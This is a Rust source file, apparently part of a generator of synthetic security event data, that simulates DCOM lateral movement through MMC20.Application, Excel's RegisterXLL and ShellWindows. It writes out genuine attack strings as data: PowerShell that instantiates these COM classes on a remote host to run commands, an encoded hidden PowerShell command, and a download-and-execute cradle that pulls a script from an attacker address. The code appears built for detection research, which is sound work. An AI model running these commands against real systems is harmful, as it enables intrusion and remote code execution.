//! Remote COM: MMC20.Application, Excel's RegisterXLL, ShellWindows; and the scripts that call them.

use super::super::events::Library;
use super::super::machine::{Integrity, Machine};
use super::super::programs;
use crate::clock::{MILLI, MINUTE, SECOND};
use crate::options::Attack;
use crate::plan::Episode;
use crate::random::Random;
use std::sync::Arc;

impl Machine {
    /// MMC is activated from another host and starts a shell.
    pub(crate) fn mmc20_target(&mut self, at: i64, episode: &Episode) {
        let mut random = Random::new(episode.shared.seed, &[1]);
        let rpc = self.resident("rpcss");
        self.receive(at, &rpc, 135, 0, episode);
        let logon = self.intrude(at + 60 * MILLI, episode);
        let launcher = self.resident("dcomlaunch");
        let mmc = self.run(
            at + 300 * MILLI,
            40 * SECOND,
            &launcher,
            &programs::MMC,
            "{image} -Embedding",
            &logon,
            Integrity::High,
        );
        self.receive(at + 700 * MILLI, &mmc, episode.shared.ports[1], 1, episode);
        let name = episode.shared.word.to_lowercase();
        let command = *random.pick(&[
            "\"{image}\" /c whoami /all > C:\\Windows\\Temp\\{name}.txt",
            "\"{image}\" /Q /c cd \\ 1> \\\\127.0.0.1\\C$\\Windows\\Temp\\{name} 2>&1",
            "\"{image}\" /c powershell -nop -w hidden -enc SQBFAFgAKABOAGUAdwAtAE8AYgBqAGUAYwB0ACkA",
        ]);
        let command = command.replace("{name}", &name);
        let shell = self.run(at + 2 * SECOND, 20 * SECOND, &mmc, &programs::CMD, &command, &logon, Integrity::High);
        self.console(at + 2 * SECOND, 20 * SECOND, &shell);
        self.look_around(at + 3 * SECOND, &shell);
    }

    /// Excel is activated from another host and loads an add-in.
    pub(crate) fn excel_target(&mut self, at: i64, episode: &Episode) {
        let rpc = self.resident("rpcss");
        self.receive(at, &rpc, 135, 0, episode);
        let logon = self.intrude(at + 50 * MILLI, episode);
        let launcher = self.resident("dcomlaunch");
        let command = "\"{image}\" /automation -Embedding";
        let excel =
            self.run(at + 400 * MILLI, 2 * MINUTE, &launcher, &programs::EXCEL, command, &logon, Integrity::High);
        self.receive(at + 900 * MILLI, &excel, episode.shared.ports[1], 1, episode);
        let path = format!(r"C:\Users\Public\{}.xll", episode.shared.word.to_lowercase());
        let kernel = self.resident("kernel");
        self.create_file(at - 4 * SECOND, &kernel, path.clone());
        let library = Library { path: &path, original: "-", description: "-", company: "-", signed: false };
        self.load(at + 3 * SECOND, &excel, &library);
        let command = "C:\\Windows\\System32\\rundll32.exe";
        self.run(at + 5 * SECOND, MINUTE, &excel, &programs::RUNDLL32, command, &logon, Integrity::High);
    }

    /// The Explorer of the logged-on user is controlled from another host.
    pub(crate) fn shell_windows_target(&mut self, at: i64, episode: &Episode) {
        let rpc = self.resident("rpcss");
        self.receive(at, &rpc, 135, 0, episode);
        self.intrude(at + 50 * MILLI, episode);
        let (logon, explorer, integrity) = self.foothold();
        self.receive(at + 500 * MILLI, &explorer, episode.shared.ports[1], 1, episode);
        let command = format!(
            "\"{{image}}\" /c powershell -NoP -W Hidden -C \"iwr http://{}:8080/{} | iex\"",
            episode.shared.address, episode.shared.word
        );
        let shell = self.run(at + 1200 * MILLI, MINUTE, &explorer, &programs::CMD, &command, &logon, integrity);
        self.console(at + 1200 * MILLI, MINUTE, &shell);
        let command = format!(
            "powershell  -NoP -W Hidden -C \"iwr http://{}:8080/{} | iex\"",
            episode.shared.address, episode.shared.word
        );
        self.powershell(at + 1500 * MILLI, 50 * SECOND, &shell, &command, &logon, integrity);
    }

    /// The script that activates the class on the target.
    pub(crate) fn dcom_source(&mut self, at: i64, episode: &Episode, attack: Attack) {
        let target = Arc::clone(&self.world.hosts[episode.target].name);
        let (logon, parent, integrity) = self.foothold();
        let command = "\"{image}\" -NoProfile -ExecutionPolicy Bypass";
        let shell = self.powershell(at - 20 * SECOND, 3 * MINUTE, &parent, command, &logon, integrity);
        let word = episode.shared.word.to_lowercase();
        let text = match attack {
            Attack::Mmc20 => format!(
                "$c = [activator]::CreateInstance([type]::GetTypeFromProgID('MMC20.Application','{target}'))\n$c.Document.ActiveView.ExecuteShellCommand('cmd.exe',$null,'/c whoami /all > C:\\Windows\\Temp\\{word}.txt','7')"
            ),
            Attack::ExcelAddIn => format!(
                "$x = [activator]::CreateInstance([type]::GetTypeFromProgID('Excel.Application','{target}'))\n$x.RegisterXLL('C:\\Users\\Public\\{word}.xll')"
            ),
            _ => format!(
                "$s = [activator]::CreateInstance([type]::GetTypeFromCLSID('9BA05972-F6A8-11CF-A442-00A0C90A8F39','{target}'))\n$s.Item().Document.Application.ShellExecute('cmd.exe','/c powershell -NoP','C:\\Windows\\System32',$null,0)"
            ),
        };
        self.script(at - 300 * MILLI, &shell, &text, "");
        self.send(at, &shell, 135, 0, episode);
        self.send(at + 500 * MILLI, &shell, episode.shared.ports[1], 1, episode);
    }
}
